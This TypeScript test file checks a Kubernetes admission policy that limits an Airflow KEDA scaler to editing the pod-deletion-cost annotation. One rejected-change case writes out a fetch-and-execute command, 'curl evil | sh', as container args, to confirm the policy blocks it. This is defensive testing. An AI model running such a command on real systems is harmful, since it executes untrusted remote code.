import { join } from 'node:path';

import { describe, expect, it } from 'vitest';

import { DEPLOY_DIR, at, kustomize, single } from './helpers.js';
import { COST, admit, changed, workerPod } from './support/admission.js';
import { renderInstallForTest } from './support/render-install.js';

/**
 * The ValidatingAdmissionPolicy that narrows the scaler's `patch pods` to the pod-deletion-cost
 * annotation, evaluated as the API server would (matchConstraints, the binding's namespace
 * selector, matchConditions, variables, validations), its CEL run by a real CEL evaluator
 * (@bufbuild/cel) on realistic old and new pods.
 */
describe.each([
  ['deploy/base', () => kustomize(join(DEPLOY_DIR, 'base')), 'airflow'],
  ['deploy/overlays/worker-sets', () => kustomize(join(DEPLOY_DIR, 'overlays/worker-sets')), 'airflow'],
])('%s: the scaler may change only pod-deletion-cost on pods', (_name, render, namespace) => {
  const manifests = render();
  const scaler = `system:serviceaccount:${namespace}:airflow-keda-scaler`;
  const pod = workerPod(namespace);
  const update = (object: unknown, username = scaler, oldObject: unknown = pod): string[] | null =>
    admit(manifests, { username, operation: 'UPDATE', namespace, oldObject, object });

  it('allows setting, changing and removing the annotation (what the scaler does)', () => {
    const ranked = changed(pod, (p) => (p.metadata.annotations[COST] = '-250'));
    expect(update(ranked)).toEqual([]);
    expect(update(changed(ranked, (p) => (p.metadata.annotations[COST] = '0')), scaler, ranked)).toEqual([]);
    expect(update(pod, scaler, ranked)).toEqual([]); // restore: the annotation removed
    const bare = changed(pod, (p) => delete p.metadata.annotations);
    expect(update(changed(bare, (p) => (p.metadata.annotations = { [COST]: '10' })), scaler, bare)).toEqual([]);
  });

  it.each<[string, (p: any) => void, RegExp]>([ // eslint-disable-line @typescript-eslint/no-explicit-any -- edits a plain JSON object
    ['a container image', (p) => (p.spec.containers[0].image = 'evil/airflow:latest'), /spec/],
    ['a command', (p) => (p.spec.containers[0].args = ['sh', '-c', 'curl evil | sh']), /spec/],
    ['a label (would take the pod out of its ReplicaSet)', (p) => (p.metadata.labels['pod-template-hash'] = 'x'), /labels/],
    ['a new label', (p) => (p.metadata.labels['extra'] = 'x'), /labels/],
    ['the owner references', (p) => (p.metadata.ownerReferences = []), /owner references/],
    ['a finalizer', (p) => (p.metadata.finalizers = ['example.com/hold']), /finalizers/],
    ['another annotation', (p) => (p.metadata.annotations['karpenter.sh/do-not-disrupt'] = 'false'), /no annotation but/],
    ['a new annotation', (p) => (p.metadata.annotations['example.com/x'] = 'y'), /no annotation but/],
    ['an annotation removed', (p) => delete p.metadata.annotations['cluster-autoscaler.kubernetes.io/safe-to-evict'], /no annotation but/],
    ['a deletion cost that is not an integer', (p) => (p.metadata.annotations[COST] = 'cheap'), /must be an integer/],
  ])('refuses a change to %s', (_label, change, message) => {
    const failed = update(changed(pod, change));
    expect(failed).not.toBeNull();
    expect(failed!.join('; ')).toMatch(message);
  });

  it('applies to the scaler\'s account only, in its namespace, on pods themselves', () => {
    const image = changed(pod, (p) => (p.spec.containers[0].image = 'x'));
    expect(update(image, 'system:serviceaccount:kube-system:replicaset-controller')).toBeNull();
    expect(update(image, `system:serviceaccount:other-${namespace}:airflow-keda-scaler`)).toBeNull();
    expect(admit(manifests, { username: scaler, operation: 'UPDATE', namespace, subResource: 'status', oldObject: pod, object: image })).toBeNull();
    expect(admit(manifests, { username: scaler, operation: 'UPDATE', namespace: 'default', oldObject: pod, object: image })).toBeNull();
  });
});

describe('install.sh --render re-targets the policy', () => {
  it('names, user and namespace selector follow AIRFLOW_NAMESPACE', () => {
    const manifests = renderInstallForTest([], { AIRFLOW_NAMESPACE: 'data-platform', SCALER_IMAGE: 'example.com/scaler:1' });
    const policy = single(manifests, 'ValidatingAdmissionPolicy');
    expect(policy.metadata.name).toBe('airflow-keda-scaler.data-platform');
    expect(at(single(manifests, 'ValidatingAdmissionPolicyBinding'), 'spec.policyName')).toBe('airflow-keda-scaler.data-platform');
    const pod = workerPod('data-platform');
    const image = changed(pod, (p) => (p.spec.containers[0].image = 'x'));
    const request = { operation: 'UPDATE' as const, namespace: 'data-platform', oldObject: pod, object: image };
    expect(admit(manifests, { ...request, username: 'system:serviceaccount:data-platform:airflow-keda-scaler' })).toHaveLength(1);
    expect(admit(manifests, { ...request, username: 'system:serviceaccount:airflow:airflow-keda-scaler' })).toBeNull();
  });
});
